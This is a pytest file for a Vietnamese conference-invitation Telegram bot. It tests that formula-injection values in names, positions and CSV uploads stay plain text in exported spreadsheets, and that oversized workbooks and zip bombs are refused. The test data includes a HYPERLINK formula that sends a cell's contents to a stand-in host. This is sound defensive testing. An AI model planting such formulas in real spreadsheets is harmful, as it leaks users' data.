"""Hostile spreadsheets through the real Application: formula-looking names come back as text in every file an
organiser gets, a guest list over a limit is refused naming it, and reading a big list stalls nobody.

The bot's clock stands at 10:00 on 1/3/2020 in Hà Nội, when both conferences of the seed plan take guest lists.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import io
import sqlite3
from collections.abc import AsyncIterator
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.engine import make_url

from bench.hostile_spreadsheets import legal_guest_list, many_sheets, wide_row, zip_bomb
from bot.playground.harness import ChatUser, Playground
from bot.services import Services
from bot.settings import Settings
from rules import accounts, guest_lists
from rules.plans import SEED_PLAN, apply_plan, load_plan_file
from rules.text import fold
from storage.models import Campaign, Conference, Invitation, InvitationImport, Nomination, OrgUnit

DISTRICT = "Hội nghị Điển hình tiên tiến"
NAME = '=HYPERLINK("http://x/?"&B2,"Bấm")'
NOTHING_IMPORTED = "\n\nChưa nhập gì. Vui lòng sửa tệp rồi gửi lại."


NOW = dt.datetime(2020, 3, 1, 3, 0, tzinfo=dt.UTC)


@pytest.fixture
async def playground(settings: Settings) -> AsyncIterator[Playground]:
    pg = Playground(lambda: Services.create(settings, clock=lambda: NOW))
    await pg.start()
    try:
        yield pg
    finally:
        await pg.stop()


@pytest.fixture
async def plan(playground: Playground) -> None:
    async with playground.services.database.transaction() as db:
        await apply_plan(db, load_plan_file(SEED_PLAN))


async def _count(playground: Playground, model: Any) -> int:
    async with playground.services.database.transaction() as db:
        return int(await db.scalar(select(func.count()).select_from(model)) or 0)


async def _approved_nomination(playground: Playground, **fields: Any) -> None:
    now = NOW
    async with playground.services.database.transaction() as db:
        nominator = await accounts.ensure_telegram_account(
            db, telegram_user_id=1001, display_name="Lan", username=None, organiser_ids=(), now=now
        )
        db.add(
            Nomination(
                code="DH-2020-0001",
                campaign_id=await db.scalar(select(Campaign.id).where(Campaign.code == "tay-ho-2020")),
                conference_id=await db.scalar(select(Conference.id).where(Conference.code == "district")),
                unit_id=await db.scalar(select(OrgUnit.id).where(OrgUnit.code == "buoi")),
                nominator_id=nominator.id,
                status="approved",
                kind="individual",
                nominee_fold=fold(fields["nominee_name"]),
                gender="nu",
                birth_year=1981,
                submitted_at=now,
                decided_at=now,
                **fields,
            )
        )


def _workbook_cells(data: bytes | None) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data or b""))
    return [cell for page in book.worksheets for row in page.iter_rows() for cell in row]


async def _file(user: ChatUser, command: str) -> list[Any]:
    document = (await user.send(command))[-1]
    assert document.method == "sendDocument", document.text
    return _workbook_cells(document.file_bytes)


async def test_names_and_positions_that_look_like_formulas_stay_text_in_every_file(playground, plan, organiser):
    await _approved_nomination(
        playground, nominee_name=NAME, position="=1+1", workplace="@SUM(A1:A2)", phone_e164="+84912345678"
    )
    await organiser.send("/invite DH-2020-0001")
    await organiser.press("Đồng ý, mời 1 người")
    guests = "Họ và tên;Năm sinh;Đơn vị;Chức vụ\nTrần Văn Bình;1975;Phường Bưởi;=A1*2\n".encode()
    await organiser.send_document(guests, "khach.csv")
    await organiser.press(DISTRICT)
    await organiser.send("1")
    async with playground.services.database.transaction() as db:
        for invitation in (await db.scalars(select(Invitation))).all():
            invitation.status = "accepted"

    files = {
        "/invitations district excel": {NAME},
        "/attendance district": {NAME, "=1+1", "=A1*2"},
        "/export district": {NAME, "=1+1", "=A1*2", "@SUM(A1:A2)", "0912 345 678"},
    }
    for command, typed in files.items():
        cells = await _file(organiser, command)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], command
        assert typed <= {cell.value for cell in cells}, command


@pytest.mark.parametrize(
    ("build", "refusal"),
    [
        (lambda: wide_row(1000), "Dòng 1 có hơn 100 cột. Vui lòng xoá các cột không cần thiết rồi gửi lại tệp."),
        (
            lambda: many_sheets(21, rows=1, columns=1),
            "Bảng tính có hơn 20 trang tính. Vui lòng gửi danh sách khách mời trong một bảng tính có ít trang tính hơn.",
        ),
        (
            lambda: zip_bomb(30 * 1024 * 1024),
            "Khi giải nén, một thành phần của tệp có dung lượng 30.0 MB, vượt quá giới hạn 25 MB. "
            "Vui lòng chỉ gửi danh sách khách mời.",
        ),
    ],
    ids=["columns", "sheets", "zip bomb"],
)
async def test_a_guest_list_over_a_limit_is_refused_naming_it_and_nothing_is_staged(
    playground, plan, organiser, build, refusal
):
    await organiser.send_document(build(), "khach-moi.xlsx")
    refused = await organiser.press(DISTRICT)

    assert [message.text for message in refused] == [refusal + NOTHING_IMPORTED]
    assert await _count(playground, InvitationImport) == 0
    after = await organiser.send("1")  # no question is left open
    assert after[-1].text == "Tôi chưa hiểu ý bạn. Gõ /help để xem tôi có thể giúp gì."


@pytest.mark.sqlite_only
async def test_while_a_guest_list_is_read_other_writers_and_other_people_go_on(
    playground, plan, organiser, citizen, monkeypatch
):
    # The reading is held open until the test lets it finish, so what happens meanwhile is seen without
    # measuring time (how long a big list takes, and the loop's lag, are measured in bench/).
    await organiser.send_document(legal_guest_list(20), "khach-moi.xlsx")
    reading, may_finish = asyncio.Event(), asyncio.Event()
    read = guest_lists.read_guest_list

    async def held_read(*args: Any, **kwargs: Any) -> Any:
        reading.set()
        await may_finish.wait()
        return await read(*args, **kwargs)

    monkeypatch.setattr(guest_lists, "read_guest_list", held_read)
    press = asyncio.create_task(organiser.press(DISTRICT))
    await reading.wait()

    # Another process takes the write lock at once (no busy timeout): the read holds no transaction …
    other = sqlite3.connect(str(make_url(playground.services.database.url).database), timeout=0, isolation_level=None)
    try:
        other.execute("BEGIN IMMEDIATE")
        other.execute("ROLLBACK")
    finally:
        other.close()
    # … and someone else is answered meanwhile (past the playground's one-update-at-a-time lock, as PTB
    # would with concurrent updates: what matters is that the loop is free).
    assert playground.factory is not None
    before = len(citizen.messages)
    await playground.application.process_update(playground.factory.text(citizen.persona, "/help"))
    assert len(citizen.messages) > before
    assert not press.done()

    may_finish.set()
    report = await press
    assert "✅ Sẵn sàng để mời: 20 người." in report[0].text
